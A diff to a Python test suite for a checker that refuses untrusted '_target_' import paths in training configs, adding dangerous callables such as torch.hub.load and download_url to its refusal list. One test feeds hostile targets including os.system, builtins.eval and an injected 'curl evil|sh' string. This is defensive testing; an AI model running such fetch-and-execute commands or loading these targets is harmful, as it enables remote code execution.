@@ -34,6 +34,7 @@ def refusal(config, **options):
         {"_target_": "lightning.Trainer", "max_epochs": 3, "strategy": "ddp"},
         {"_target_": "lightning.pytorch.callbacks.EarlyStopping", "monitor": "val/mIoU"},
         {"_target_": "lightning.pytorch.loggers.WandbLogger", "project": "segment", "tags": []},
+        {"_target_": "segment.data.VOCDataModule", "augment": [{"_target_": "torchvision.transforms.v2.JPEG"}]},
         {"_target_": "segment.data.VOCDataModule", "root": "data/voc", "download": False, "url": None},
     ],
 )
@@ -53,6 +54,10 @@ def test_usual_parts_pass(part):
         "segment.data.datasets.voc.SBDataset",
         "torch.utils.collect_env.run",
         "torch.load",
+        "torchvision.transforms.v2.Lambda",
+        "torchvision.transforms.v2.functional.to_image",
+        "torchvision.transforms.Lambda",
+        "torchvision.datasets.utils.download_url",
         "torch.hub.load",
         "torch.jit.load",
         "torch.distributed.launcher.api.elastic_launch",
@@ -105,6 +110,11 @@ def test_trust_means_a_package_and_no_prefix(mylab):
         assert 'add trust=[mylab] (in Python: trust=["mylab"])' in refusal({"_target_": target}, trust=["mylab.nets"])
 
 
+def test_the_advice_keeps_the_packages_that_are_trusted_already(mylab):
+    advice = 'add trust=[other,mylab] (in Python: trust=["other", "mylab"])'
+    assert advice in refusal({"_target_": "mylab.Net"}, trust=["other", "mylab.losses"])
+
+
 @pytest.mark.parametrize(
     "target",
     [
@@ -128,7 +138,9 @@ def test_a_trusted_name_that_cannot_be_imported_is_one_line(mylab):
     assert "in the folder that holds that package" in refusal({"_target_": "nolab.Net"}, trust=["nolab"])
 
 
-@pytest.mark.parametrize("target", ["os.system", "builtins.eval", "x];curl evil|sh;.Net", "mylab\n.Net", "a b.c"])
+@pytest.mark.parametrize(
+    "target", ["os.system", "torch.hub.load", "builtins.eval", "x];curl evil|sh;.Net", "mylab\n.Net", "a b.c"]
+)
 def test_no_advice_to_trust_what_is_no_package_of_a_users(target):
     assert "trust" not in refusal({"_target_": target}).partition("expected")[2]
 
